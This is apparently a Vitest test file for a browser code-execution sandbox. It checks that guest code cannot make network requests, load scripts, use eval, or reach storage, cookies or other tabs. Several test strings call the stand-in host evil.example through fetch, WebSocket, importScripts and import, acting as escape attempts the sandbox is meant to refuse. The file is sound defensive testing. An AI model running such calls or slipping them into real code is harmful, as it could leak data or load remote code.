import { afterEach, describe, expect, it } from 'vitest';
import type { CodeTests } from '../../../src/lib/core/code/code-tests.ts';
import { isCancelled } from '../../../src/lib/core/model/errors.ts';
import { CodeRunner } from '../../../src/lib/services/sandbox/code-runner.ts';

const TESTS: CodeTests = {
	version: 1,
	language: 'javascript',
	kind: 'stdio',
	preamble: '',
	timeLimitMs: 2_000,
	memoryLimitMb: 64,
	cases: [{ input: '', output: 'nothing' }]
};
const NO_WASM = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]).buffer;

/** In place of an interpreter: the worst that could happen, a guest that is the whole worker. */
function guest(work: string): CodeRunner {
	const script = `self.addEventListener('message', ({ data: { port } }) => {
		if (port === null) return self.postMessage({ snapshot: null });
		const say = (kind, text) => port.postMessage({ kind, text: String(text), ms: 1, over: false });
		port.onmessage = async ({ data }) => {
			if (data.ask === 'open') return say('done', '');
			try { say('output', await (async () => { ${work} })()); } catch (error) { say('output', error.name); }
		};
		say('ready', '');
	});`;
	return new CodeRunner({
		loadParts: () => Promise.resolve({ script, wasm: NO_WASM.slice(0), files: {} })
	});
}

let runner: CodeRunner;
afterEach(() => runner.close());

async function said(work: string): Promise<string> {
	runner = guest(work);
	const [first] = await runner.run('', TESTS, new AbortController().signal);
	return first!.detail;
}

describe('a guest that has broken out of its interpreter', () => {
	it('has an origin that is nobody’s', async () => {
		expect(await said('return self.origin')).toBe('null');
	});

	it.each([
		['a request', "return (await fetch('https://evil.example/')).status", /^TypeError$/],
		[
			'a request to the page',
			`return (await fetch(${JSON.stringify(location.origin)})).status`,
			/^TypeError$/
		],
		[
			'an old request',
			"const r = new XMLHttpRequest(); r.open('GET', 'https://evil.example/', false); r.send(); return r.status",
			/^NetworkError$/
		],
		[
			'a socket',
			"return new Promise((done) => { const s = new WebSocket('wss://evil.example/'); s.onopen = () => done('open'); s.onerror = () => done('refused'); })",
			/refused|Error/
		],
		[
			'events',
			"return new Promise((done) => { const s = new EventSource('https://evil.example/'); s.onopen = () => done('open'); s.onerror = () => done('refused'); })",
			/refused|Error/
		],
		['a script', "importScripts('https://evil.example/x.js'); return 'in'", /Error/],
		['a module', "await import('https://evil.example/x.js'); return 'in'", /Error/],
		[
			'a module of the page',
			`await import(${JSON.stringify(`${location.origin}/x.js`)}); return 'in'`,
			/Error/
		],
		['text as code', "return eval('1 + 1')", /^EvalError$/],
		['a function of text', "return new Function('return 1')()", /^EvalError$/]
	])('sends nothing by %s', async (_, work, refusal) => {
		expect(await said(work)).toMatch(refusal);
	});

	it.each([
		[
			'files',
			'return (await navigator.storage.getDirectory()).name',
			/^(?:SecurityError|TypeError)$/
		],
		[
			'a database',
			"return new Promise((done) => { const r = indexedDB.open('x'); r.onsuccess = () => done('open'); r.onerror = () => done('refused'); })",
			/refused|SecurityError/
		],
		['databases', 'return (await indexedDB.databases()).length', /Error/],
		['caches', "return await caches.has('x')", /Error/],
		['locks', "return await navigator.locks.request('x', () => 'held')", /Error/],
		['a cookie', 'return (await cookieStore.getAll()).length', /Error/]
	])('reaches no %s', async (_, work, refusal) => {
		const root = await navigator.storage.getDirectory();
		const kept = await root.getFileHandle('kept.txt', { create: true });
		expect(await said(work)).toMatch(refusal);
		expect((await kept.getFile()).name).toBe('kept.txt');
		await root.removeEntry('kept.txt');
	});

	it('does not hear what tabs of the page say to each other', async () => {
		const channel = new BroadcastChannel('retort');
		const heard: unknown[] = [];
		channel.onmessage = ({ data }) => heard.push(data);
		await said("new BroadcastChannel('retort').postMessage('hello'); return 'sent'");
		await new Promise((resolve) => setTimeout(resolve, 100));
		expect(heard).toEqual([]);
		channel.close();
	});
});

describe('the runner', () => {
	it('ends a worker that says nothing, and takes only answers of known kinds', async () => {
		runner = guest('for (;;);');
		const results = await runner.run(
			'',
			{ ...TESTS, timeLimitMs: 200 },
			new AbortController().signal
		);
		expect(results.map(({ outcome }) => outcome)).toEqual(['timeout']);
	});

	it('can be cancelled, and goes on', async () => {
		runner = guest('for (;;);');
		const abort = new AbortController();
		const running = runner.run('', { ...TESTS, timeLimitMs: 20_000 }, abort.signal);
		setTimeout(() => abort.abort(), 300);
		await expect(running).rejects.toSatisfy(isCancelled);
		const results = await runner.run(
			'',
			{ ...TESTS, timeLimitMs: 200 },
			new AbortController().signal
		);
		expect(results.map(({ outcome }) => outcome)).toEqual(['timeout']);
	});

	it('says so where the sandbox fails, and says nothing of the answer', async () => {
		runner = new CodeRunner({
			loadParts: () => Promise.resolve({ script: 'throw new Error("x")', wasm: NO_WASM, files: {} })
		});
		await expect(runner.run('', TESTS, new AbortController().signal)).rejects.toMatchObject({
			code: 'worker-died'
		});
	});
});
